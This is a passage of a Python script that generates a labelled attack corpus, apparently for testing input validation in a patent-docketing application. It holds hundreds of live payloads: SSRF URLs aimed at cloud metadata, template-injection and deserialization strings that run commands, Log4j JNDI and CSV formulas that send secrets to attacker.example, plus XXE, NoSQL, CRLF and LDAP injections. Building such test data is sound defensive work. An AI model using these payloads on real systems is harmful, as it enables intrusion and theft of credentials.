    ("import-url-loopback-resolving-name", "http://localtest.attacker.example/admin"),
    ("webhook-router-admin", "http://192.168.1.1/cgi-bin/luci"),
    ("webhook-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cx%40attacker.example%3E%0D%0A"),
    ("import-url-loopback+mixed-hex", "http://0x7f.0.0.1/"),
    ("import-url-loopback+ideographic-dot", "http://127。0。0。1/"),
    ("import-url-loopback+url", "http://%31%32%37%2e%30%2e%30%2e%31/"),
    ("citation-text-embedded-metadata-url", "D3: available at http://169.254.169.254/latest/meta-data/ (accessed 2024-09-01)"),
    ("import-url-file-environ", "file:///proc/self/environ"),
    ("import-url-netdoc-scheme", "netdoc:///etc/passwd"),
    ("import-url-localhost-status", "http://localhost/server-status"),
    ("import-url-internal-db", "http://docket-db.internal:5432/"),
    ("import-url-link-local-ipv6", "http://[fe80::1%25eth0]/"),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-localhost", "http://localhost:22/"),
    ("plain-file-windows", "file:///c:/windows/win.ini"),
    ("plain-gopher", "gopher://localhost:11211/_stats"),
]

SSRF_PATHS = ["/latest/meta-data/", "/latest/user-data", "/admin", "/actuator/env", "/server-status",
              "/v1/secrets", "/_cluster/health"]
SSRF_PORTS = ["", ":8080", ":9200", ":2379", ":5984"]


def _ip_forms(a: int, b: int, c: int, d: int, rng: random.Random) -> list[tuple[str, str]]:
    n = (a << 24) | (b << 16) | (c << 8) | d
    return [("decimal-ip", str(n)), ("hex-ip", hex(n)), ("octal-ip", ".".join(f"0{x:o}" for x in (a, b, c, d))),
            ("hex-dotted-ip", ".".join(hex(x) for x in (a, b, c, d)))]


def tpl_ssrf(rng: random.Random) -> list[tuple[str, str]]:
    out = []
    for enc, host in _ip_forms(169, 254, 169, 254, rng):
        out.append((f"citation-url-metadata+{enc}", f"http://{host}{rng.choice(SSRF_PATHS[:2])}"))
    for enc, host in _ip_forms(127, 0, 0, 1, rng)[1:]:
        out.append((f"import-url-loopback+{enc}", f"http://{host}{rng.choice(SSRF_PORTS[1:])}{rng.choice(SSRF_PATHS[2:])}"))
    for _ in range(3):
        h = rng.choice(["10.0.0.12", "172.16.4.2", "192.168.10.5", "127.0.0.1", "localhost"])
        out.append(("webhook-internal-host", f"http://{h}{rng.choice(SSRF_PORTS)}{rng.choice(SSRF_PATHS)}"))
    return out


# =========================================================================== code
CODE = [
    ("claim-template-jinja2-config", "1. A method comprising {{ config.items() }}"),
    ("note-template-jinja2-globals-rce", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("note-template-jinja2-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("note-template-jinja2-loop-popen", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['id'], stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("note-template-jinja2-request-builtins", "{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("note-template-jinja2-attr-filter", "{{ lipsum|attr('__globals__')|attr('__getitem__')('os')|attr('popen')('id')|attr('read')() }}"),
    ("note-template-jinja2-subclasses+hex-escape", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
    ("mail-template-twig-filter-system", "Dear client, {{ ['id']|filter('system') }}"),
    ("mail-template-twig-map-passthru", "{{ ['cat /etc/passwd']|map('passthru') }}"),
    ("report-template-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("report-template-velocity-runtime", "#set($rt = $class.forName('java.lang.Runtime'))#set($p = $rt.getRuntime().exec('id'))$p.waitFor()"),
    ("letter-template-erb-backticks", "<%= `id` %>"),
    ("letter-template-erb-system", "Reply due <%= system('cat /etc/passwd') %>"),
    ("view-name-thymeleaf-spel", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("field-spel-hash", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/spel')}"),
    ("param-ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("report-template-mako-import", "${__import__('os').popen('id').read()}"),
    ("report-template-mako-block", "<% import os; os.system('id') %>"),
    ("invoice-template-smarty-system", "{system('id')}"),
    ("note-template-tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("letter-template-ejs-child-process", "<%= process.mainModule.require('child_process').execSync('id') %>"),
    ("letter-template-pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("rule-expression-jexl-runtime", "''.class.forName('java.lang.Runtime').getRuntime().exec('id')"),
    ("claim-count-python-eval", "__import__('os').system('id')"),
    ("fee-formula-node-eval", "require('child_process').execSync('cat /etc/passwd').toString()"),
    ("math-field-python-eval", "sum(w*x for w,x in zip(W,X)) + __import__('subprocess').getoutput('id')"),
    ("pubno-log4j-jndi-ldap", "${jndi:ldap://attacker.example:1389/a}"),
    ("inventor-log4j-jndi+lookup-obfuscation", "Müller ${${lower:j}ndi:${lower:l}dap://x.attacker.example/o}"),
    ("note-log4j-jndi-dns-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("cpc-log4j-jndi+default-value-obfuscation", "H04L 9/32 ${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.8:1099/x}"),
    ("appno-log4j-jndi-ldaps", "US 2024/0123456 A1 ${jndi:ldaps://attacker.example/pat}"),
    ("pubno-log4j-env-leak", "EP 3 456 789 ${sys:java.version} ${env:DB_PASSWORD}"),
    ("user-agent-log4j-jndi+date-obfuscation", "${${upper:j}${date:'n'}di:ldap://198.51.100.9/x}"),
    ("session-blob-pickle-protocol0", "cos\nsystem\n(S'id'\ntR."),
    ("cookie-php-serialized-object", "O:8:\"Docketer\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("import-yaml-python-apply", "!!python/object/apply:os.system ['id']"),
    ("import-yaml-snakeyaml-script-engine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y/\"]]]]"),
    ("api-json-dotnet-type", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd.exe\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("api-json-jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}]"),
    ("api-json-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.4:1099/x\",\"autoCommit\":true}"),
    ("figure-path-phar-wrapper", "phar:///srv/docket/uploads/fig3.jpg/x"),
    ("patent-xml-xxe-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE claims [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<claims><claim num=\"1\"><claim-text>&x;</claim-text></claim></claims>"),
    ("patent-xml-xxe-oob-parameter-entity", "<?xml version=\"1.0\"?><!DOCTYPE us-patent-application [<!ENTITY % d SYSTEM \"http://attacker.example/evil.dtd\"> %d;]><us-patent-application/>"),
    ("patent-xml-xinclude", "<claim-text xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></claim-text>"),
    ("patent-xml-xxe-ssrf", "<!DOCTYPE r [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><abstract>&m;</abstract>"),
    ("patent-xml-entity-expansion", "<!DOCTYPE d [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY e \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><description>&e;</description>"),
    ("figure-svg-xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY f SYSTEM \"file:///etc/passwd\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text y=\"20\">&f;</text></svg>"),
    ("api-json-proto-pollution", "{\"docket\": {\"title\": \"EP 3 456 789\"}, \"__proto__\": {\"isAdmin\": true}}"),
    ("api-json-constructor-prototype", "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}"),
    ("query-proto-pollution", "__proto__[isAdmin]=true"),
    ("query-constructor-prototype", "constructor[prototype][shell]=/bin/sh"),
    ("api-json-proto-ejs-gadget", "{\"__proto__\": {\"outputFunctionName\": \"x;process.mainModule.require('child_process').execSync('id');x\"}}"),
    ("export-csv-hyperlink-exfil", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"View EP 3 456 789\")"),
    ("export-csv-dde-cmd", "=cmd|' /C calc'!A0"),
    ("export-csv-plus-dde", "+SUM(1+1)*cmd|' /C notepad'!A1"),
    ("export-csv-at-dde", "@SUM(1+1)*cmd|' /C powershell -c iwr attacker.example'!A0"),
    ("export-csv-minus-dde", "-2+3+cmd|' /C calc'!A0"),
    ("export-csv-webservice", "=WEBSERVICE(\"https://attacker.example/?\"&B2)"),
    ("export-csv-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A2),\"//a\")"),
    ("goods-list-csv-hyperlink", "=HYPERLINK(\"http://attacker.example/tm\",\"Class 9: downloadable software\")"),
    ("appno-log4j-jndi+url", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fz%7D"),
    ("plain-jinja2-rce", "{{7*'7'}}{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("plain-log4j-jndi", "${jndi:ldap://198.51.100.20/x}"),
    ("plain-xxe", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/shadow\">]><x>&e;</x>"),
    ("plain-proto-pollution", "{\"__proto__\":{\"polluted\":\"yes\"}}"),
    ("plain-csv-formula", "=1+cmd|'/c calc'!A1"),
    ("plain-spel-env", "${T(java.lang.System).getenv()}"),
]

SSTI_CTX = ["Dear {name}, your response is due ", "Claim 1 of EP 3 456 789: ", "Invoice for fee code 1253 — ",
            "Reminder for Łukasz: ", "Class 9 goods: "]
SSTI_BODIES = ["{{ cycler.__init__.__globals__.os.popen('id').read() }}",
               "${T(java.lang.Runtime).getRuntime().exec('id')}",
               "<%= `cat /etc/passwd` %>",
               "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
               "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"]


def tpl_code(rng: random.Random) -> list[tuple[str, str]]:
    out = []
    for _ in range(5):
        out.append(("letter-template-ssti", rng.choice(SSTI_CTX).replace("{name}", "client") + rng.choice(SSTI_BODIES)))
    # Log4j lookup obfuscation: every letter of "jndi" wrapped in a default-value lookup
    for scheme in ("ldap", "rmi", "dns"):
        host = rng.choice(["attacker.example", "203.0.113.21", "x.attacker.example"])
        j = "".join("${" + rng.choice(["::-", "lower:", "upper:"]) + ch + "}" for ch in "jndi")
        out.append(("header-log4j-jndi+lookup-obfuscation", "${" + j + ":" + scheme + "://" + host + "/p}"))
    xml = "<!DOCTYPE c [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><claim-text>&x;</claim-text>"
    out.append(("patent-xml-xxe-file+url", quote(xml, safe="")))
    out.append(("api-json-proto-pollution+unicode-escape", "{\"\\u005f\\u005fproto\\u005f\\u005f\": {\"isAdmin\": true}}"))
    out.append(("export-csv-formula+tab-prefix", "\t=HYPERLINK(\"https://attacker.example/?\"&C3,\"open\")"))
    return out


# =========================================================================== nosqli
NOSQLI = [
    ("login-json-ne-operator", "{\"username\": {\"$ne\": null}, \"password\": {\"$ne\": null}}"),
    ("search-json-where-sleep", "{\"pub_no\": {\"$regex\": \"^US\"}, \"$where\": \"sleep(5000) || true\"}"),
    ("login-query-ne-operator", "username[$ne]=x&password[$ne]=x"),
    ("filter-json-where-tautology", "{\"$where\": \"this.fee_code == '1253' || this.owner == this.owner\"}"),
    ("fee-code-where-js-breakout", "1253'; return true; var x='"),
    ("filter-json-gt-empty", "{\"status\": {\"$in\": [\"open\", \"closed\"]}, \"client_id\": {\"$gt\": \"\"}}"),
    ("reset-json-regex-blind", "{\"email\": \"admin@example.com\", \"reset_token\": {\"$regex\": \"^a\"}}"),
    ("filter-json-or-empty", "{\"$or\": [{}, {\"docket_id\": \"1234\"}]}"),
    ("report-pipeline-lookup-users", "[{\"$match\": {}}, {\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("filter-json-exists-token", "{\"api_token\": {\"$exists\": true}}"),
    ("filter-json-function-sleep", "{\"$expr\": {\"$function\": {\"body\": \"function(){ sleep(3000); return true; }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("inventor-query-regex", "inventor[$regex]=.*&inventor[$options]=si"),
    ("fee-query-gt", "fee_code[$gt]=0&docket[$ne]=0"),
    ("pubno-where-sleep-breakout", "EP3456789' || sleep(4000) || '"),
    ("role-json-nin", "{\"role\": {\"$nin\": [\"viewer\"]}}"),
    ("inventors-json-elemmatch-regex", "{\"inventors\": {\"$elemMatch\": {\"ssn\": {\"$regex\": \"^1\"}}}}"),
    ("filter-json-where-function", "{\"$where\": \"function(){ return Object.keys(this).length > 0 }\"}"),
    ("appno-json-type-operator", "{\"appl_no\": {\"$type\": 2}}"),
    ("search-query-where", "$where=sleep(3000)"),
    ("login-query-ne+url", "username%5B%24ne%5D=admin&password%5B%24ne%5D=x"),
    ("plain-ne", "{\"$ne\": 1}"),
    ("plain-gt-empty", "{\"password\": {\"$gt\": \"\"}}"),
]


def tpl_nosqli(rng: random.Random) -> list[tuple[str, str]]:
    out = []
    for field in rng.sample(["attorney", "client_ref", "examiner", "status"], 2):
        op = rng.choice(["$ne", "$gt", "$regex"])
        val = {"$ne": "null", "$gt": "\"\"", "$regex": "\".*\""}[op]
        out.append(("filter-json-operator", f"{{\"{field}\": {{\"{op}\": {val}}}}}"))
    out.append(("login-query-regex+url", quote("password[$regex]=^a", safe="=")))
    return out


# =========================================================================== crlf
CRLF = [
    ("download-header-injection", "US 2024/0123456 A1\r\nX-Injected: 1"),
    ("audit-log-forging", "reply drafted\n2024-09-14 10:00:00 INFO user=admin action=approve docket=1234-0056US01 status=FILED"),
    ("inventor-mail-bcc-injection", "Müller\r\nBcc: harvest@attacker.example"),
    ("redirect-set-cookie+url", "EP3456789%0d%0aSet-Cookie:%20session=attacker-fixed"),
    ("download-response-splitting", "claims.pdf\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("reminder-mail-content-type", "Deadline reminder\nContent-Type: text/html\n\n<a href=\"https://attacker.example/pay\">Pay fee 1253 here</a>"),
    ("content-disposition-filename", "claims.pdf\"\r\nContent-Type: text/html\r\n\r\n<svg onload=alert(1)>"),
    ("reminder-smtp-smuggling", "Reminder\r\n.\r\nMAIL FROM:<ceo@example.com>\r\nRCPT TO:<victim@example.com>\r\nDATA\r\nSubject: urgent wire\r\n"),
    ("audit-log-ansi-escape", "fee paid\u001b[2J\u001b[1;1HALL DEADLINES CLEARED"),
    ("redirect-header+utf8-truncation", "EP3456789%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1"),
    ("redirect-location-injection", "/docket/1234\r\nLocation: https://attacker.example/"),
    ("mail-subject-cc-injection", "OA response filed\r\nCc: list@attacker.example\r\nX-Priority: 1"),
    ("json-log-forging", "ok\"}\n{\"ts\":\"2024-09-14T10:00:00Z\",\"level\":\"info\",\"user\":\"admin\",\"event\":\"password_reset\",\"target\":\"partner@example.com\"}"),
    ("inventor-syslog-forging", "Zoë\n<13>Sep 14 10:00:00 docket-app auth: user root logged in from 10.0.0.1"),
    ("cpc-header-cache-poisoning", "H04L\r\nX-Forwarded-Host: attacker.example"),
    ("lang-cookie-injection", "en\r\nSet-Cookie: role=admin; Path=/; HttpOnly"),
    ("pubno-bare-lf-header", "EP3456789\nRefresh: 0; url=https://attacker.example/"),
    ("redirect-location+url", "/docket%0d%0aLocation:%20https://attacker.example%0d%0a"),
    ("redirect-set-cookie+double-url", "EP3456789%250d%250aSet-Cookie:%2520sid=evil"),
    ("inventor-mail-reply-to", "Jürgen Müller <j.mueller@example.de>\nReply-To: billing@attacker.example"),
    ("header-request-smuggling", "x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n"),
    ("citation-log-forging", "D1 uploaded\r\n[2024-09-14 10:00:01] WARN  auth  login ok user=partner ip=127.0.0.1"),
    ("audit-csv-log-forging", "note;2024-09-14;jmartin\n2024-09-14;admin;DELETE;docket=ALL"),
    ("plain-crlf-set-cookie", "\r\nSet-Cookie: a=b"),
    ("plain-log-newline", "x\nINFO admin logged in"),
    ("plain-crlf+url", "%0d%0aX-Test:%20injected"),
]

CRLF_FIELDS = ["US 2024/0123456 A1", "1234-0056US01", "Łukasz Wiśniewski", "Class 42", "fee 1253", "H04L 9/32"]
CRLF_HEADERS = ["Set-Cookie: sid=fixed-by-attacker", "Location: https://attacker.example/login",
                "Bcc: drop@attacker.example", "X-Forwarded-For: 127.0.0.1", "Content-Security-Policy: script-src *"]


def tpl_crlf(rng: random.Random) -> list[tuple[str, str]]:
    out = []
    for _ in range(3):
        out.append(("field-header-injection", rng.choice(CRLF_FIELDS) + rng.choice(["\r\n", "\n"]) + rng.choice(CRLF_HEADERS)))
    out.append(("field-header-injection+url", quote(rng.choice(CRLF_FIELDS) + "\r\n" + rng.choice(CRLF_HEADERS), safe="")))
    out.append(("audit-log-forging+url", quote("done\n2024-09-15 08:00:00 INFO user=admin action=export_all", safe="")))
    return out


# =========================================================================== ldap / xpath
LDAP_XPATH = [
    ("inventor-search-ldap-filter-breakout", "*)(uid=*))(|(uid=*"),
    ("login-ldap-or-injection", "admin)(|(objectClass=*)"),
    ("inventor-ldap-attr-probe", "Müller*)(mail=*"),
    ("login-ldap-password-attr-probe", "*)(userPassword=*)"),
    ("login-ldap-blind-prefix", "jmueller)(userPassword=a*"),
    ("login-ldap-true-filter", "admin)(&)"),
    ("directory-ldap-group-member", "*)(memberOf=cn=partners,ou=groups,dc=firm,dc=example)(cn=*"),
    ("login-ldap-null-byte+url", "admin)%00"),
    ("docket-xml-xpath-tautology", "' or '1'='1"),
    ("docket-xml-xpath-count-probe", "' or count(/docket/attorney)>0 or 'a'='b"),
    ("docket-xml-xpath-union", "x'] | //user/password | //a['"),
    ("docket-xml-xpath-substring-blind", "' or substring(//user[1]/password,1,1)='a' or '"),
    ("docket-xml-xpath-name-probe", "') or name()='docket' or ('"),
    ("pubno-xpath-string-length", "EP3456789' and string-length(//client[1]/api_key)>20 and '1'='1"),
    ("citation-xpath-doc-function", "' or doc('http://attacker.example/x.xml') or '"),
    ("claim-num-xpath-numeric", "1 or 1=1"),
    ("docket-xml-xpath-comment-dump", "')] | //comment() | //*[contains(.,'"),
    ("inventor-xpath-tautology", "Müller' or 'a'='a"),
    ("plain-ldap-or", "*)(|(cn=*)"),
    ("plain-xpath-tautology", "' or 1=1 or ''='"),
]


def tpl_ldap_xpath(rng: random.Random) -> list[tuple[str, str]]:
    out = []
    for name in rng.sample(["Nováček", "Ødegård", "D'Souza", "Groß"], 2):
        attr = rng.choice(["telephoneNumber", "mail", "userPassword", "employeeNumber"])
        out.append(("inventor-ldap-attr-probe", f"{name}*)({attr}=*"))
    out.append(("login-ldap-or-injection+url", quote("admin)(|(objectClass=*)", safe="")))
    return out


# =========================================================================== assembly
CATEGORIES = [
    ("sqli", SQLI, tpl_sqli),
    ("xss", XSS, tpl_xss),
    ("cmdi", CMDI, tpl_cmdi),
    ("traversal", TRAVERSAL, tpl_traversal),
    ("ssrf", SSRF, tpl_ssrf),
    ("code", CODE, tpl_code),
    ("nosqli", NOSQLI, tpl_nosqli),
    ("crlf", CRLF, tpl_crlf),
    ("ldap-xpath", LDAP_XPATH, tpl_ldap_xpath),
]


def main() -> None:
    rng = random.Random(SEED)
    rows: list[tuple[str, str, str]] = []
    seen: set[str] = set()
    stats = []
    for cat, literals, tpl in CATEGORIES:
        n_lit = n_tpl = 0
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            rows.append((cat, cls, v))
            n_lit += 1
        for cls, v in tpl(rng):
            if v in seen:
                continue  # a template may reproduce an existing value; skip it
            seen.add(v)
            rows.append((cat, cls, v))
            n_tpl += 1
        stats.append((cat, n_lit + n_tpl, n_lit))

    total = len(rows)
    lits = sum(s[2] for s in stats)
    if lits < 0.8 * total:
        raise SystemExit(f"too few literals: {lits}/{total}")

    out = Path(__file__).with_name("attacks.jsonl")
    with out.open("w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, v) in enumerate(rows, 1):
            assert isinstance(v, str) and v and len(v) <= 1800, (cat, v)
            obj = {"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls, "label": "attack", "value": v}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")

    n_plain = sum(1 for r in rows if r[1].startswith("plain-"))
    n_enc = sum(1 for r in rows if "+" in r[1])
    for cat, n, n_lit in stats:
        print(f"{cat:12s} {n:4d}  literals {n_lit}")
    print(f"{'TOTAL':12s} {total:4d}  literals {lits} ({100 * lits / total:.1f} %), plain {n_plain}, encoded {n_enc}")


if __name__ == "__main__":
    main()
